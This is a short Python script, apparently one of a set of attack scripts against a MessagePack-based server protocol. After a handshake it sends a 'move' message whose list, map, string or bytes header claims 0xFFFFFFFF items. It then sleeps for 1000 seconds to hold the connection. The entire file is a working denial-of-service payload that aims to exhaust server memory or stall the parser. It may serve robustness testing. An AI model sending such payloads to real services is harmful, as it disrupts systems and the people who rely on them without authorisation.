"""It claims a list, a map or a text of four thousand million items."""

import time

from attack import VARIANT, framed, handshake, next_ask, write

MARKS = {"list": b"\xdd", "map": b"\xdf", "text": b"\xdb", "bytes": b"\xc6"}
handshake()
next_ask()
write(framed(b"\x81\xa4move" + MARKS[VARIANT] + b"\xff\xff\xff\xff"))
time.sleep(1000)
